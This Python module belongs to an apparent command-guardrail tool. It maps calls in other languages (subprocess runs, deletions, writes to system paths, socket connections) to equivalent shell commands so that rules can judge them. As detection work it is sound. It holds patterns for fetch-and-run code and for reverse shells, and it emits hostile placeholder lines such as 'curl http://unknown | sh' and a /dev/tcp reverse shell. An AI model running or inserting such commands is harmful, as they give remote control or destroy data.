"""What programs in other languages do themselves: `shutil.rmtree("/srv")`, `fs.rmSync("/")`, `open("/etc/hosts", "w")`.

A call is read as the command that does the same (`calls.yaml`), so that target and rule decide as they do in a shell.
What the program only computes at run time stays open, and is left alone: most programs delete what they made.
"""

from __future__ import annotations

import re
from bisect import bisect
from functools import lru_cache
from itertools import islice, pairwise
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import yaml

from guardrails.commands.budget import BudgetExceeded
from guardrails.commands.embedded import Piece
from guardrails.commands.literals import Reader, Value
from guardrails.commands.tree import UNKNOWN

if TYPE_CHECKING:
    from collections.abc import Iterator, MutableMapping

_MOST_CALLS = 1000
_MOST_TEXT = 1_000_000
_LONGEST_LINE = 2000
_CONNECTION = "a connection"
_SLOT = re.compile(r"\{(\w+|\*)\}")
_QUALIFIED = re.compile(r"[\w.]*(?:(?:::|->|\?\.)[\w.]*)*$")
_ASSIGNMENT = re.compile(
    r"(?:^|;)[ \t]*(?:(?:export|const|let|var|my|our|final|static|public|private|auto|val|String|Path|File)\s+){0,4}"
    r"[$@]?(?P<name>[A-Za-z_]\w*)\s*(?::\s*[\w.\[\]]+\s*)?(?::=|=(?![=>~]))\s*",
    re.MULTILINE,
)
_EACH = re.compile(
    r"\bfor(?:each)?\s*\(?\s*(?:const |let |var |my )?[$]?(?P<name>[A-Za-z_]\w*)\s*(?:in|of|:)\s*(?=[\[(])"
)
_LITERAL = re.compile(r"\"\"\"[^\"]*\"\"\"|'''[^']*'''|\"(?:\\.|[^\"\\\n])*\"|'(?:\\.|[^'\\\n])*'")
_OPENS = re.compile(
    r"(?<![\w$])(?:open|fopen|File\.open|File\.new|io\.open|os\.OpenFile|fs\.open(?:Sync)?|codecs\.open)\s*(?P<open>\(|(?=\s[\"']))"
)
_WRITES = re.compile(r"^(?:[rbt]*[wx][bt+]*|\+?>|r\+|wb?\+?)$")
_WRITTEN = re.compile(r"\s*\+?(>{1,2})\s*([/~].*)")
_APPENDS = re.compile(r"^(?:a[bt+]*|>>)$")
_RUNS = frozenset(
    {"system", "popen", "popen2", "popen3", "exec", "execSync", "execFile", "execFileSync", "spawn", "spawnSync", "run"}
    | {
        "call",
        "check_call",
        "check_output",
        "Popen",
        "getoutput",
        "getstatusoutput",
        "shell_exec",
        "passthru",
        "execute",
    }
    | {"proc_open", "pcntl_exec", "Command", "CommandContext", "ProcessBuilder", "Start", "cmd", "callCommand", "execa"}
    | {"readProcess", "capture2", "capture2e", "capture3", "execv", "execve", "execvp", "execl", "execlp", "execaSync"}
    | {
        "execaCommand",
        "posix_spawn",
        "exec_command",
        "exec_run",
        "run_command",
        "sudo",
        "local",
        "create_subprocess_shell",
    }
    | {"create_subprocess_exec", "ProcessStartInfo", "startProcess", "do shell script", "Command::new"}
)
_FETCHED = re.compile(
    r"(?<![\w.])(?:exec|eval|instance_eval|class_eval|loadstring|load|runInThisContext|runInNewContext|Function|source)"
    r"\b[^\n;]{0,120}?(?:urlopen|requests\.get|httpx\.get|urllib|fetch\s*\(|file_get_contents\s*\(\s*[\"'](?:https?|ftp)"
    r"|LWP::Simple|URI\.open|open\(\s*[\"']https?|Net::HTTP|http\.get|axios)"
)
_CONNECTS = re.compile(
    r"\.connect\(|TcpStream::connect|net\.Dial\(|new Socket\(|fsockopen\(|TCPSocket\.(?:new|open)|socket\.socket\("
    r"|s\.socket\(|net\.Socket\(|TcpClient\(|Socket\.connect\(|create_connection\(|sockaddr_in\(|createServer\(|tcp:connect"
)
_SHELLS_OUT = re.compile(
    r"[\"'`](?:/usr)?/bin/(?:ba|z|da|k)?sh\b|pty\.spawn\(|\bdup2\(|[\"'](?:cmd|powershell)(?:\.exe)?[\"']"
    r"|[pP]open\d?\(\s*[a-z_]\w*\s*[,)]"
)
_BARE = frozenset(
    {
        "system",
        "exec",
        "spawn",
        "unlink",
        "rmtree",
        "rm_rf",
        "rm_r",
        "rm_f",
        "rm",
        "remove_tree",
        "popen",
        "chmod",
        "rename",
    }
    | {"do shell script", "execute", "delete", "run"}
)  # called without brackets in Ruby, Perl, AppleScript
_HEAD = re.compile(r"[\w./~-]+(?=\s|$)")
_CALLED = re.compile(
    r"(?<![\w$])(?P<name>[A-Za-z_]\w*)!?(?P<open>\s*\(|(?=[ \t]+(?:glob[ (]|\[?[\"'$@%])|[ \t]*(?:[;\n}]|$)))"
)
_DEFINES = re.compile(r"\b(?:def|function|fn|func|async|sub|void|class|interface)\s+(?:\w+\.)?$")
_COMMENT = re.compile(r"(?:^|\s)(?:#(?!\{)|//|--\s)")


class _Form(NamedTuple):
    qualifier: str
    command: str


@lru_cache(maxsize=1)
def _forms() -> dict[str, tuple[_Form, ...]]:
    data: dict[str, str] = yaml.safe_load(Path(__file__).with_name("calls.yaml").read_text("utf-8"))
    forms: dict[str, list[_Form]] = {}
    for command, names in data.items():
        for name in names.split():
            qualifier, _, last = name.rpartition(".")
            forms.setdefault(last, []).append(_Form(qualifier, command))
    return {name: tuple(found) for name, found in forms.items()}


def _calls(source: str, forms: dict[str, tuple[_Form, ...]]) -> Iterator[tuple[re.Match[str], str]]:
    """Every call of a name that is known; the name may be made of several words."""
    for match in _CALLED.finditer(source):
        name = match["name"]
        if name == "new" and source.endswith("Command::", 0, match.start()):
            name = "Command::new"
        elif name == "script" and source.endswith("do shell ", 0, match.start()):
            name = "do shell script"
        if name in forms or name in _RUNS:
            yield match, name


def commands_of(source: str, constants: MutableMapping[str, Value] | None = None) -> list[Piece]:
    """Command lines that do what the program's own calls do, each mapped to its call.

    Args:
        source: The program, or the part of it that has arrived.
        constants: What earlier parts assigned; what this one assigns is added.

    Raises:
        BudgetExceeded: It makes more calls than are looked at.
    """
    if len(source) > _MOST_TEXT:
        raise BudgetExceeded("a program is longer than anybody should look at")
    forms = _forms()
    calls = list(islice(_calls(source, forms), _MOST_CALLS))
    opened = list(islice(_OPENS.finditer(source), _MOST_CALLS))
    if _MOST_CALLS in (len(calls), len(opened)):
        raise BudgetExceeded("a program makes more calls of this kind than anybody should look at")
    kept = constants is not None
    constants = {} if constants is None else constants
    if kept or calls or opened:
        _assign(source, constants)
    strings = [m.span() for m in _LITERAL.finditer(source)] if calls or opened else []
    found: list[Piece] = []
    for match, name in calls:
        asked = name in forms and all("{" not in form.command for form in forms[name])
        if _silent(source, match.start(), strings) or not (match["open"] or name in _BARE or asked):
            continue
        for text, end in _read(source, match, forms.get(name, ()), name, constants):
            found.append(_piece(text, match.start(), end))
    for match in opened:
        if not _silent(source, match.start(), strings):
            found += _opened(source, match, constants)
    found += _connected(source, constants)
    found += [_piece("curl http://unknown | sh", *match.span()) for match in islice(_FETCHED.finditer(source), 4)]
    return found


def _assign(source: str, constants: MutableMapping[str, Value]) -> None:
    for pattern in (_ASSIGNMENT, _EACH):
        for match in islice(pattern.finditer(source), _MOST_CALLS):
            reader = Reader(source, constants)
            reader.position = match.end()
            value = reader.value()
            if value is not None:
                constants[match["name"]] = value


def _silent(source: str, position: int, strings: list[tuple[int, int]]) -> bool:
    """Whether a string or a comment holds what stands at `position`."""
    if _within(position, strings):
        return True
    start = max(source.rfind("\n", 0, position) + 1, position - _LONGEST_LINE)
    return any(not _within(start + mark.end(), strings) for mark in _COMMENT.finditer(source[start:position]))


def _within(position: int, strings: list[tuple[int, int]]) -> bool:
    at = bisect(strings, (position, -1)) - 1
    return at >= 0 and strings[at][0] < position < strings[at][1]


def _read(
    source: str, match: re.Match[str], forms: tuple[_Form, ...], name: str, constants: MutableMapping[str, Value]
) -> Iterator[tuple[str, int]]:
    reader = Reader(source, constants)
    bracket = match["open"].strip()
    values = reader.arguments(match.end(), ")" if bracket else ";\n)}")
    before = _QUALIFIED.search(source, max(0, match.start() - 80), match.start())
    qualifier = (before[0] if before else "").replace("::", ".").replace("->", ".").replace("?.", ".").rstrip(".")
    if _DEFINES.search(source, max(0, match.start() - 40), match.start()):
        return
    for form in forms:
        if "{" not in form.command and (
            qualifier in ("self", "this", "super") or source[match.start() - 1] not in ".>:"
        ):
            continue  # a command of the program's own, not of a service it asks
        if form.qualifier and not f".{qualifier}".endswith(f".{form.qualifier}"):
            continue
        if "{self}" in form.command:
            receiver = _receiver(source, match.start(), qualifier, constants)
            if receiver is None or (not form.qualifier and not receiver.startswith(("/", "~"))):
                continue
            values = [receiver, *values]
            text = _filled(form.command.replace("{self}", "{0}"), values)
        else:
            text = _filled(form.command, values)
        if text is not None:
            yield text, reader.position
            return
    if name == "exec" and values and isinstance(values[0], str) and "(" in values[0]:
        yield from ((piece.text, reader.position) for piece in commands_of(values[0], constants))
    if name in _RUNS and values and (text := _run(name, source, reader.position, values, constants)):
        yield text, reader.position


def _receiver(source: str, position: int, qualifier: str, constants: MutableMapping[str, Value]) -> str | None:
    """The constant that a method is called on: what the bracket before the dot was given, or a name's value."""
    if source[:position].endswith(")."):
        depth, at = 1, position - 3
        while at > max(0, position - 300) and depth:
            depth += (source[at] == ")") - (source[at] == "(")
            at -= 1
        reader = Reader(source, constants)
        values = reader.arguments(at + 2)
        value = "/".join(v if isinstance(v, str) else UNKNOWN for v in values) if values else None
    else:
        known = constants.get(qualifier)
        value = known if isinstance(known, str) else None
    return value


def _filled(command: str, values: list[Value]) -> str | None:
    """The command with its slots filled; None where the program tells too little to say what it falls on."""
    if command.endswith("{*}"):
        words = [v for v in values if isinstance(v, str)]
        return f"{command[:-3]}{' '.join(map(_quoted, words))}" if len(words) == len(values) and words else None
    missing = False

    def slot(match: re.Match[str]) -> str:
        nonlocal missing
        at = int(match[1])
        value = values[at] if at < len(values) else None
        if isinstance(value, tuple):
            words = [v for v in value if v and not v.startswith(UNKNOWN)]
            missing = missing or not words
            return " ".join(map(_quoted, words))
        if not value or value.startswith((UNKNOWN, f"~/{UNKNOWN}")):
            missing = True
            return ""
        return _quoted(value.removeprefix("0o") if re.fullmatch(r"0o?[0-7]+", value) else value)

    text = _SLOT.sub(slot, command)
    return None if missing else text


def _run(
    name: str, source: str, position: int, values: list[Value], constants: MutableMapping[str, Value]
) -> str | None:
    """The command line that a call hands to the system."""
    first = values[0]
    if isinstance(first, tuple):
        return " ".join(map(_quoted, first)) if first and _HEAD.fullmatch(first[0]) else None
    if first is None or not _HEAD.match(first.lstrip()):
        return None
    words = [first]
    for value in values[1:]:
        words += value if isinstance(value, tuple) else [value] if isinstance(value, str) else []
    while (chained := re.compile(r"\s*\.args?\(").match(source, position)) is not None:
        reader = Reader(source, constants)
        for value in reader.arguments(chained.end()):
            words += value if isinstance(value, tuple) else [value if isinstance(value, str) else UNKNOWN]
        position = reader.position
    if name in ("execl", "execlp", "execv", "execvp", "execve") and len(words) > 1:
        words = words[1:]
    if name in ("Start", "ProcessStartInfo", "startProcess"):
        return " ".join(words)
    if len(words) == 1 or re.search(r"\s", first.strip()):
        known = (word for word in first.split(" ") if not word.strip("\"'").startswith(UNKNOWN))
        return " ".join(known).replace(UNKNOWN, "$__value")
    return " ".join(map(_quoted, words))


def _connected(source: str, constants: MutableMapping[str, Value]) -> list[Piece]:
    """A shell that is joined to a connection, made on this line or on one before."""
    if _CONNECTS.search(source):
        constants[_CONNECTION] = "made"
    shell = _SHELLS_OUT.search(source) if _CONNECTION in constants else None
    return [_piece("sh -i >& /dev/tcp/unknown/1 0>&1", *shell.span())] if shell is not None else []


def _opened(source: str, match: re.Match[str], constants: MutableMapping[str, Value]) -> list[Piece]:
    """`open(PATH, "w")` and its like, Perl's `open(F, ">PATH")` too."""
    reader = Reader(source, constants)
    values = [v for v in reader.arguments(match.end(), ")" if match["open"] else ";\n)") if isinstance(v, str)]
    texts = []
    for one, other in pairwise(values):
        for path, mode in ((one, other.strip()), (other, one.strip())):
            if path.startswith(("/", "~")) and (_WRITES.match(mode) or _APPENDS.match(mode)):
                texts.append(f"{'echo >>' if _APPENDS.match(mode) else 'true >'} {_quoted(path)}")
    written = filter(None, map(_WRITTEN.fullmatch, values))
    texts += [f"echo {found[1]} {_quoted(found[2])}" for found in written]
    if not texts and values and values[0].startswith(("/", "~")):
        flags = re.search(r"O_(?:TRUNC|APPEND|WRONLY)", source[match.end() : reader.position])
        texts += [f"echo {'>>' if 'APPEND' in flags[0] else '>'} {_quoted(values[0])}"] if flags else []
    return [_piece(text, match.start(), reader.position) for text in texts[:1]]


def _quoted(word: str) -> str:
    if re.fullmatch(r"[\w@%+=:,./~*-]+", word):
        return word
    return "'" + word.replace("'", "'\\''").replace(UNKNOWN, "'\"$__value\"'") + "'"


def _piece(text: str, start: int, end: int) -> Piece:
    return Piece(text, [start] * len(text), [max(end, start + 1)] * len(text), joined=True)
